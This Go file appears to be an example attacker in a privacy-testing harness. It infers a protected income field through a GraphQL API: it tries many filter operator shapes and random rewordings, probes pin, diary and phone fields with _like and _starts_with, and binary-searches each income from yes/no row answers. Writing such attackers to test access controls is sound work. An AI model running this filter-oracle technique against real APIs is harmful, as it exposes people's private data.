// Package filters attacks by asking for rows instead of values: is there a row
// of this person with an income below 500? A yes or no is a bit, and ten bits
// are the income. It promises to try every operator, in every position of a
// filter.
package filters

import (
	"context"
	"errors"
	"maps"
	"slices"
	"strconv"
	"strings"

	"github.com/weir-data/weir/examples/attackers/target"
	"github.com/weir-data/weir/examples/attackers/wording"
)

// Attack is the attacker.
func Attack() *target.Attack {
	return &target.Attack{
		Name: "filters", Oracle: "rows that a filter on a protected field lets through",
		Question: "what is the income (0 to 999)?", Prior: 1.0 / 1000,
		Truth: func(p *target.Person) string { return strconv.Itoa(p.Income) },
		Run:   run,
	}
}

// shape is a way to ask whether the income is below a number; # stands for the
// number and @ for the person.
type shape struct{ words, text string }

func shapes() []shape {
	const list, open, end = `{ persons(where: `, `{idNumber: {_eq: "@"}, `, `}) { idNumber } }`
	return []shape{
		{"_lt", list + open + `income: {_lt: #}` + end},
		{"_lt of a variable", `query($n: Int) ` + list + open + `income: {_lt: $n}` + end},
		{"_not _gte", list + open + `_not: {income: {_gte: #}}` + end},
		{"_and", list + open + `_and: [{income: {_lt: #}}]` + end},
		{"_or", list + open + `_or: [{income: {_lt: #}}, {income: {_eq: -1}}]` + end},
		{"_lte and _neq", list + open + `income: {_lte: #, _neq: #}` + end},
		{"the whole filter in a variable", `query($w: PersonWhere) { persons(where: $w) { idNumber } }`},
		{"a page's count", `{ personsConnection(where: ` + open + `income: {_lt: #}}) { totalCount } }`},
		{"two levels down", list + open + `_or: [{_and: [{_not: {_not: {income: {_lt: #}}}}]}]` + end},
		{"beside a contradiction", list + open + `_or: [{_and: [], income: {_lt: #}}, {_or: []}]` + end},
	}
}

func run(ctx context.Context, c *target.Client, cs *target.Case) (map[string]string, error) {
	guesses := map[string]string{}
	var work *shape
	for _, s := range shapes() {
		a, err := below(ctx, c, s, cs.IDs[0], 1000)
		if err != nil {
			return guesses, err
		}
		if len(a.Codes) > 0 {
			cs.Say("%s: %s", s.words, strings.Join(a.Codes, " "))
			continue
		}
		cs.Say("%s: answered", s.words)
		if work == nil && s.words != "a page's count" {
			work = &s
		}
	}
	for _, probe := range []string{`income: {_in: [1, 2, 3]}`, `income: {_nin: [1]}`, `income: {_is_null: false}`, `pin: {_like: "0%"}`, `pin: {_starts_with: "0"}`, `diary: {_like: "%long%"}`, `phone: {_starts_with: "138"}`, `badge: {_eq: "B"}`} {
		a, err := c.Ask(ctx, "research", `{ persons(where: {`+probe+`}) { idNumber } }`, nil)
		if err != nil {
			return guesses, err
		}
		cs.Say("%s: %s", probe, strings.Join(append(a.Codes, "answered")[:1], ""))
	}
	if work == nil {
		var err error
		if work, err = search(ctx, c, cs); err != nil || work == nil {
			return guesses, err
		}
	}
	for _, id := range cs.IDs {
		low, high := 0, 1000 // low <= income < high
		for high-low > 1 {
			middle := (low + high) / 2
			a, err := below(ctx, c, *work, id, middle)
			if err != nil {
				return guesses, err
			}
			if len(target.List(a.Data, "persons")) > 0 {
				high = middle
			} else {
				low = middle
			}
		}
		guesses[id] = strconv.Itoa(low)
	}
	return guesses, nil
}

// search draws ways to ask, about people whose incomes it knows, until one is
// answered as an income would have it, or no query is left.
func search(ctx context.Context, c *target.Client, cs *target.Case) (*shape, error) {
	d, ids := wording.Draw{Rand: cs.Random}, slices.Sorted(maps.Keys(cs.Known))
	drawn, codes := 0, map[string]int{}
	for {
		s := draw(d)
		id := ids[drawn%len(ids)]
		income, err := strconv.Atoi(cs.Known[id])
		if err != nil {
			return nil, err
		}
		// A shape that works finds everybody, above his income and not at it.
		works := true
		for _, n := range []int{income + 1, income} {
			a, err := below(ctx, c, s, id, n)
			if errors.Is(err, target.ErrSpent) {
				cs.Say("%d further shapes drawn: %v", drawn, codes)
				return nil, err
			}
			if err != nil {
				return nil, err
			}
			codes[strings.Join(append(a.Codes, "answered")[:1], "")]++
			works = works && len(a.Codes) == 0 && len(target.List(a.Data, "persons")) > 0 == (n > income)
		}
		if drawn++; works {
			cs.Say("answered: %s", s.text)
			return &s, nil
		}
	}
}

// draw words "the income is below #" in some way.
func draw(d wording.Draw) shape {
	leaf := d.One(`{income: {_lt: #}}`, `{income: {_lt: $n}}`, `{_not: {income: {_gte: #}}}`, `{income: {_lte: #, _neq: #}}`, `{income: {_lt: #, _gt: -1}}`,
		`{_or: [{income: {_lt: #}}, {income: {_in: []}}]}`, `{_and: [{income: {_lt: #}}, {income: {_is_null: false}}]}`, `{_not: {_or: [{income: {_gt: #}}, {income: {_eq: #}}]}}`)
	condition := `{_and: [{idNumber: {_eq: "@"}}, ` + d.Around(leaf, 4) + `]}`
	if d.IntN(4) == 0 {
		condition = d.Around(`{idNumber: {_eq: "@"}, _and: [`+leaf+`]}`, 2)
	}
	args := d.One(``, `limit: 1, `, `orderBy: [{idNumber: ASC}], `, `offset: 0, `) + `where: ` + condition
	head := `{ `
	if strings.Contains(args, "$n") {
		head = `query($n: Int!) { `
	}
	return shape{"drawn", head + d.One(`persons(`+args+`)`, `persons: persons(`+args+`)`) + ` { idNumber }` + d.One(``, ` other: persons(limit: 1) { idNumber }`, ` __typename`) + ` }`}
}

func below(ctx context.Context, c *target.Client, s shape, id string, n int) (*target.Answer, error) {
	text := strings.NewReplacer("@", id, "#", strconv.Itoa(n)).Replace(s.text)
	variables := map[string]any{}
	if strings.Contains(text, "$n") {
		variables["n"] = n
	}
	if strings.Contains(text, "$w") {
		variables["w"] = map[string]any{"idNumber": map[string]any{"_eq": id}, "income": map[string]any{"_lt": n}}
	}
	return c.Ask(ctx, "research", text, variables)
}
